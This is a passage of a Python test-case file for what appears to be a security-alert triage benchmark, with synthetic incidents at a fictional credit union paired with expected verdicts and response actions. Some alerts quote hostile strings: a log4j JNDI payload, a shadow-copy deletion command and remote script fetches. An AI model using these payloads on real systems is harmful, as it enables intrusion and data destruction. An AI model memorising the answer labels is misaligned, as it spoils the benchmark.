         "ip_src": "10.40.250.77", "mac_src": "f4:8e:38:1a:22:90", "ip_dst": "10.40.250.20", "protocol": "bacnet",
         "risk": 4.5, "zone_src": "BMS", "record_created_at": 1804026840000, "is_incident": False},
    ),
    nozomi(
        25, (MAL, MALWARE, ["isolate_host", "block_ip"]), "high",
        "UPS network card at Cape Town scanning the internet on telnet",
        "MCU-CPT-UPS01's management card (10.42.250.11) has opened telnet to about 2,800 random internet addresses "
        "on 23 and 2323 since 04:00 and keeps a session to 45.95.146.26:38241, a known Mirai-family controller. The "
        "card still had its factory login, and the branch NAT forwarded its web port to the internet.",
        {"id": "a7f31c09-0d55-4e1e-8a52-6c3e8b9d1f04", "type_id": "SIGN:MALICIOUS-IP", "name": "Malicious IP",
         "ip_src": "10.42.250.11", "ip_dst": "45.95.146.26", "port_dst": 38241, "protocol": "tcp", "risk": 9,
         "zone_src": "CPT-Facilities", "threat_name": "Mirai", "record_created_at": 1804219200000,
         "is_incident": True},
    ),
    nozomi(26, (UNK, GENERIC, []), "medium", None, None, {"alerts": [], "count": 0}),
    claroty(
        27, (SUS, GENERIC, ["notify", "disable_user"]), "high",
        "Unauthorized configuration change: CRAC-2 setpoint 21 -> 27 C (Hobart data room)",
        "At 03:12 the vendor remote-access account 'klimatek-support' changed CRAC-2's supply setpoint and fan "
        "speed over Modbus. It came from the vendor's usual address in Germany, but there is no work order and "
        "their on-call isn't answering. Data room at 24.8 C and rising slowly.",
        {"site": "MCU-HBA-DC", "alert_id": 70412, "alert_type_name": "Unauthorized Configuration Change",
         "category": "Policy Violation", "protocol": "Modbus/TCP", "function": "Write Multiple Registers (16)",
         "src": "10.40.250.5 (remote access gateway)", "user": "klimatek-support", "remote_ip": "91.64.118.203"},
        ["MCU-HBA-CRAC02"],
    ),
    claroty(
        28, (SUS, GENERIC, PAGE), "medium",
        "Firmware download to door controller MCU-YUL-ACS01 from unknown asset",
        "The Montréal branch door controller took a firmware image over TFTP from 10.45.9.88, a device xDome first "
        "saw today (Raspberry Pi OUI), not the access-control server. The security integrator says 'a tech may have "
        "been on site', still checking who and why.",
        {"site": "MCU-YUL", "alert_id": 70433, "alert_type_name": "Firmware Download", "category": "Baseline Deviation",
         "protocol": "TFTP", "src": "10.45.9.88", "dst": "10.45.250.21", "file": "lp1502_1.30.4.bin"},
        ["MCU-YUL-ACS01"],
    ),
    mikrotik(
        29, (MAL, BRUTE, ["block_ip"]), "high", None, None, "MCU-REK-RTR01",
        ["system,error,critical login failure for user admin from 5.188.206.14 via winbox",
         "system,error,critical login failure for user support from 5.188.206.14 via winbox",
         "system,error,critical login failure for user mikrotik from 193.32.162.150 via winbox",
         "system,error,critical login failure for user admin from 80.94.92.61 via winbox",
         "-- 912 login failures in 40 min from 3 addresses, 0 logins; winbox (8291) answering on WAN --"],
    ),
    mikrotik(
        30, (MAL, GENERIC, ["reset_credentials", "block_ip"]), "critical",
        "Wellington branch router: admin login from the internet, new scheduler and SOCKS proxy",
        "MCU-WLG-RTR01 took an admin login over winbox from 91.92.251.43 (not our jump host) at 02:47. Within two "
        "minutes it got a script and a scheduler that fetches http://91.92.251.43/r.rsc every 10 minutes, SOCKS "
        "was turned on at port 4153 and a NAT rule added. RouterOS is 6.40 - the winbox file-read bug era.",
        "MCU-WLG-RTR01",
        ["system,info,account user admin logged in from 91.92.251.43 via winbox",
         "system,info script added by admin", "system,info scheduler added by admin",
         "system,info socks settings changed by admin", "system,info nat rule added by admin"],
    ),
]

OPS = [
    vmalert(
        31, (BEN, PERF, PAGE), "high",
        "CoreBankingAPIHighLatency: ledger-svc p99 4.2s",
        "p99 on ledger-svc went from ~400 ms to 4.2 s at 11:05 right after release 2027.03.2. The migration "
        "dropped ix_txn_account_posted and the statement queries now scan. Rolling back the migration, ETA 20 min.",
        [vm_alert("CoreBankingAPIHighLatency", ("ledger-slo", 40912231),
                  {"service": "ledger-svc", "severity": "critical"}, "p99 latency above 1s for 10m",
                  "2027-03-09T00:05:00Z", "4.21")],
        kind="performance",
    ),
    vmalert(
        32, (MAL, PERF, ["isolate_host"]), "critical",
        "NodeCPUSaturated on mcu-prod-k8s-w03 and w05 - loan portal slow",
        "Both nodes at 100% CPU since 02:13. The load is one pod, 'kube-proxy-metrics-7f9c' in namespace default, "
        "image docker.io/kubeletstat/metrics:latest (not our registry), created by the default service account "
        "through the Argo Workflows UI that was left on a public load balancer on Friday. Its process holds TLS to "
        "pool.hashvault.pro. Loan applications take 30 s to submit.",
        [vm_alert("NodeCPUSaturated", NODES, {"instance": "mcu-prod-k8s-w03", "severity": "critical"},
                  "CPU busy > 95% for 15m", "2027-03-11T15:28:00Z", "99.7"),
         vm_alert("NodeCPUSaturated", NODES, {"instance": "mcu-prod-k8s-w05", "severity": "critical"},
                  "CPU busy > 95% for 15m", "2027-03-11T15:29:00Z", "99.9")],
    ),
    vmalert(33, (UNK, GENERIC, []), "medium", None, None, []),
    zenoss(
        34, (BEN, AVAIL, PAGE), "high",
        "MCU-TLL: 14 devices down (/Status/Ping)",
        "Power cut in Tallinn city centre (Elektrilevi outage map shows Kesklinn). The branch UPS held ~40 minutes "
        "then everything dropped at 06:52. Branch closed until power's back, expected 08:30.",
        {"evid": "0242ac11-0003-a4b2-11ef-9d1e7c4f2a01", "device": "MCU-TLL-SW01", "component": "",
         "eventClass": "/Status/Ping", "severity": 5, "summary": "MCU-TLL-SW01 is DOWN!", "count": 14,
         "DeviceGroups": "/Branches/Tallinn", "firstTime": "2027-03-12T04:52:10Z"},
    ),
    zenoss(
        35, (SUS, AVAIL, PAGE), "high",
        "MCU-HBA-DC01 rebooted unexpectedly",
        "Domain controller DC01 went down at 03:14 and came back 03:21. Not patch night (that's second Tuesday), no "
        "change on the board. System log says shutdown.exe initiated the restart on behalf of MCU\\adm.hdoyle - "
        "Hamish is on leave in Japan and nobody on call claims it. Could be a scheduled task he left, not checked.",
        {"evid": "0242ac11-0003-a4b2-11ef-9d1e7c4f2a77", "device": "MCU-HBA-DC01", "component": "sysUpTime",
         "eventClass": "/Change/Reboot", "agent": "zenperfsnmp",
         "severity": 4, "summary": "Device rebooted: uptime reset to 00:06:41",
         "count": 1, "DeviceGroups": "/Datacentre/Hobart"},
    ),
    coralogix(
        36, (MAL, BRUTE, ["reset_credentials", "notify"]), "critical",
        "mobile-banking auth-api: login failures > 5,000 in 10 min",
        "61,200 failed logins in 30 minutes from about 4,800 addresses (residential proxies, all over AU/NZ), "
        "member numbers and passwords that look like someone else's breach list. 94 members got in; 11 of those "
        "added a new payee within five minutes of logging in.",
        ("mobile-banking", "auth-api"),
        {"hit_count": 61200, "alert_groupby_labels": {"http.status": "401"}, "success_after_failure": 94},
        kind="brute_force",
    ),
    coralogix(
        37, (BEN, AVAIL, PAGE), "high",
        "cards-api 5xx ratio > 20%",
        "[dev chat, pasted] priya: cards-api throwing 502s since the 14:05 deploy\n"
        "ollie: yeah v4.18.0, NPE in the new config loader, CARD_NETWORK_TIMEOUT isn't set in prod, my bad\n"
        "priya: rolled back 14:31, error ratio back to 0.2%. card freeze/unfreeze in the app was broken for ~25 min",
        ("internet-banking", "cards-api"),
        {"hit_count": 18233, "error_ratio": 0.42, "version": "4.18.0"},
        kind="availability",
    ),
    coralogix(
        38, (SUS, GENERIC, PAGE), "medium",
        "ib-edge nginx: ${jndi: strings in request headers",
        "3,900 requests from 20 addresses with ${jndi:ldap://...} in User-Agent and X-Api-Version. All got 400 except "
        "17 to /legacy/feedback, the old Java form app, which answered 200. Nobody knows offhand whether that app's "
        "log4j was ever upgraded, and nobody has looked for LDAP or DNS callbacks from it yet.",
        ("internet-banking", "ib-edge"),
        {"hit_count": 3917, "sample": '45.155.205.233 - - "GET /legacy/feedback HTTP/1.1" 200 '
                                      '"${jndi:ldap://45.155.205.233:1389/Basic/Command/Base64/d2dldCBo}"'},
    ),
    logzio(
        39, (MAL, EXFIL, ["block_ip", "disable_user", "notify"]), "critical",
        "Bulk statement download (>1000 statements / 1h, single principal)",
        "Member login 7731904, opened online yesterday, fetched 48,112 February statements for 47,900 different "
        "account numbers in two hours from 159.223.44.18 and 159.223.51.202 (DigitalOcean), walking the numbers "
        "one by one. /v2/statements/{accountNo}/{period}.pdf never checked that the account belongs to the caller.",
        "SEVERE",
        {"alert_event_samples": [{"principal": "member:7731904", "path": "/v2/statements/10082231/2027-02.pdf",
                                  "status": 200, "client_ip": "159.223.44.18"}], "count": 48112},
        kind="data_exfiltration",
    ),
    logzio(
        40, (BEN, EXFIL, []), "low",
        "Bulk statement download (>1000 statements / 1h, single principal)",
        "svc-regreport from MCU-HBA-BAT01: the quarterly regulator archive run (CHG-4519), 310k statements to the "
        "records archive as every quarter.",
        "MEDIUM",
        {"alert_event_samples": [{"principal": "svc-regreport", "path": "/internal/statements/export",
                                  "status": 200, "client_ip": "10.40.10.61"}], "count": 310224},
    ),
    opsramp(
        41, (BEN, AVAIL, ["restart_service", "notify"]), "high",
        "Service MSSQLSERVER is not running on MCU-HBA-DB02",
        "After the patch reboot at 01:00 SQL Server didn't come up: the tempdb volume mounted late after the SAN "
        "path failover and the service gave up. Loan origination is down until it starts. Volume is there now.",
        "CRITICAL",
        {"resource": {"name": "MCU-HBA-DB02", "ipAddress": "10.40.10.32"}, "metric": "windows_service_status",
         "component": "MSSQLSERVER", "problemArea": "Windows Services"},
        kind="availability",
    ),
    opsramp(
        42, (MAL, MALWARE, ["isolate_host", "escalate"]), "high",
        "Multiple Windows services stopped on 14 servers",
        "At 01:32 Sunday VSS, SQLWriter, MSSQLSERVER, Veeam.Backup.Service and the AV agent stopped on 14 Hobart "
        "servers within three minutes. On three of them the process log has 'vssadmin delete shadows /all /quiet' "
        "run as MCU\\svc_deploy. No maintenance is scheduled and nobody is working.",
        "CRITICAL",
        {"resource": {"name": "MCU-HBA-FS01", "ipAddress": "10.40.10.41"}, "metric": "windows_service_status",
         "component": "VSS", "correlated_resources": 14},
    ),
    opsramp(
        43, (UNK, GENERIC, []), "medium", "FW: alert", "see attached", "WARNING",
        {"attachments": [], "source": "email-to-alert"},
    ),
    sl1(
        44, (BEN, PERF, PAGE), "medium",
        "Interface Gi0/0/1 (MPLS to Hobart) outbound utilisation 98% exceeded threshold 90%",
        "wlg staff say the core banking screens are slugish since 10am. its the DFS replication for the new "
        "imaging share - was meant to start 22:00 but the schedule was entered in UTC. pausing it till tonight",
        "MCU-WLG-RTR01", "Major", {"sub_entity": "Gi0/0/1", "value": "98.2%", "threshold": "90%"},
    ),
    sl1(
        45, (SUS, PERF, PAGE), "high",
        "Firewall session table utilisation 96% - new sessions dropped",
        "Cape Town firewall is dropping new connections; tellers see the core banking client time out. The top "
        "talker is the guest Wi-Fi NAT address 10.42.99.1 with 58,000 sessions to random internet addresses on 445 "
        "and 23. ~30 members' devices on guest Wi-Fi; which one it is and why, unknown yet.",
        "MCU-CPT-FW01", "Critical", {"sub_entity": "session-table", "value": "96%", "top_talker": "10.42.99.1"},
    ),
    chronosphere(
        46, (MAL, AVAIL, PAGE), "critical",
        "SLO online-banking-login availability 61% - 30d error budget gone in 2h",
        "Online banking was down for members in AU and NZ 19:04-19:45. About 1.3M requests a minute to /login from "
        "~38,000 residential addresses with rotating user agents; origin CPU pinned. At 18:50 info@marlowecu.org "
        "received 'pay 2 BTC or your online banking stays down all week'.",
        {"monitor": {"name": "online-banking-login availability", "slug": "ob-login-avail"},
         "slo": {"objective": 0.999, "current": 0.61, "burn_rate_1h": 390}, "signal": {"service": "ob-login"}},
    ),
    chronosphere(
        47, (BEN, PERF, PAGE), "medium",
        "KafkaConsumerLag payments-posting > 500k",
        "Posting of card payments to accounts is ~25 min behind. Yesterday's config change set max.poll.records "
        "to 10 on the payments-posting consumers (meant for the test cluster). Reverting.",
        {"monitor": {"name": "KafkaConsumerLag", "slug": "kafka-consumer-lag"},
         "signal": {"consumer_group": "payments-posting"}, "value": 1214400},
    ),
    sematext(
        48, (SUS, PERF, PAGE), "medium",
        "crm-search: JVM heap > 95%, old GC pauses 14s",
        "Member search in the CRM takes 20-40 s. Elasticsearch is drowning in ~12,000 leading-wildcard queries an "
        "hour ('*a*', '*b*', ...) using the read-only CRM API key, from 10.41.5.77 - a desk in the Wellington "
        "office DHCP range, not an app server. Might be the analytics intern's notebook; not confirmed.",
        "crm-search-prod", {"alertType": "THRESHOLD", "value": "96.4%", "top_client": "10.41.5.77"},
        kind="performance",
    ),
    sematext(
        49, (MAL, BRUTE, ["isolate_host", "block_ip", "reset_credentials"]), "critical",
        "auth log: Accepted password for root on mcu-cloud-jump02",
        "3,140 'Failed password for root' from 193.142.146.212 since 01:10, then 'Accepted password for root' "
        "at 04:22. PasswordAuthentication had been switched back on during last week's troubleshooting. After the "
        "login: wget of x.sh into /tmp and a new root crontab entry.",
        "mcu-cloud-logs",
        {"alertType": "LOGS", "query": "program:sshd AND message:\"Accepted password for root\"",
         "host": "mcu-cloud-jump02", "src": "193.142.146.212"},
        kind="brute_force",
    ),
    xray(
        50, (BEN, PERF, PAGE), "medium",
        "X-Ray Insight: fault rate and latency up on loan-quote-api",
        "Root cause DynamoDB table mcu-rate-cache throttling (ProvisionedThroughputExceeded) since the '3.99% car "
        "loan' marketing e-mail went out at 09:00. Switching the table to on-demand.",
        {"InsightId": "a1d95b1e-7c2f-4c43-8f3e-5b1b2d0e9f11", "Categories": ["FAULT"],
         "RootCauseServiceId": {"Name": "mcu-rate-cache", "Type": "AWS::DynamoDB::Table"},
         "Summary": "Fault rate on loan-quote-api increased, caused by throttling on DynamoDB",
         "ClientRequestImpactStatistics": {"FaultCount": 2213, "OkCount": 9120, "TotalCount": 11333}},
    ),
    xray(
        51, (SUS, EXFIL, PAGE), "high",
        "X-Ray Insight: new downstream dependency on card-tokenise",
        "card-tokenise (Lambda) latency +800 ms since layer version 14 went out Tuesday with an npm dependency "
        "bump. The service map shows a new remote node, api.cdn-metricsync[.]io, called on every invocation with a "
        "~2 KB request body. The payments developers don't recognise the host; what is in the body is not known.",
        {"InsightId": "c0e7a3f2-91b8-4d2d-a6a0-77f1e3c5b842", "Categories": ["LATENCY"],
         "RootCauseServiceId": {"Name": "api.cdn-metricsync.io", "Type": "remote"},
         "TopAnomalousServices": [{"ServiceId": {"Name": "card-tokenise", "Type": "AWS::Lambda::Function"}}]},
    ),
    freshping(
        52, (SUS, AVAIL, PAGE), "high",
        "www.marlowecu.org is DOWN (Not Responding)",
        "Down from all five check locations since 02:15 NZDT. Public DNS now answers 62.113.114.38, not our host. "
        "The registrar's audit log shows the A record changed at 02:10 by the marketing agency's login; the agency "
        "is not answering yet. Their botched migration, or someone in their account - can't tell yet.",
        {"check_id": 36114, "check_name": "Public website", "check_url": "https://www.marlowecu.org",
         "response_state": "Not Responding", "response_status_code": 0, "request_location": "all"},
    ),
    freshping(53, (UNK, GENERIC, []), "low", "Freshping: check status changed",
              "One of your checks changed status.", {"event_data": {}}),
    hetrix(
        54, (MAL, PHISHING, ["disable_user", "reset_credentials", "quarantine_email"]), "high",
        "mail-gw-01 listed on 3 blacklists",
        "Outbound mail gateway 103.252.118.25 is on Spamhaus, SpamCop and Barracuda since 06:00. Cause: the shared "
        "mailbox memberservices-cpt@marlowecu.org (password on a sticky note, no MFA) logged in from a Frankfurt VPS "
        "at 04:50 and sent 12,400 'Your Marlowe CU account is suspended - verify now' mails with a link to a fake "
        "member login, 300 of them to our own staff.",
        "103.252.118.25",
        [("zen.spamhaus.org", "https://check.spamhaus.org/"), ("bl.spamcop.net", "https://www.spamcop.net/bl.shtml"),
         ("b.barracudacentral.org", "https://www.barracudacentral.org/rbl/removal-request")],
    ),
    hetrix(
        55, (SUS, MALWARE, PAGE), "medium",
        "HBA-branch-NAT listed on 1 blacklist - virus on our network?",
        "Spamhaus XBL lists the Hobart branch's public address (staff PCs and the ATM behind it) for 'botnet "
        "activity, seen contacting a sinkhole 2027-03-11 03:40 UTC'. Which machine: unknown - the branch firewall "
        "keeps only 24 h of flow logs, so the 03:40 traffic is gone.",
        "103.252.119.66", [("xbl.spamhaus.org", "https://check.spamhaus.org/")],
    ),
]
# fmt: on


CASES: list[Case] = [*FIREWALL_NAC, *NDR, *OT_ROUTERS, *OPS]
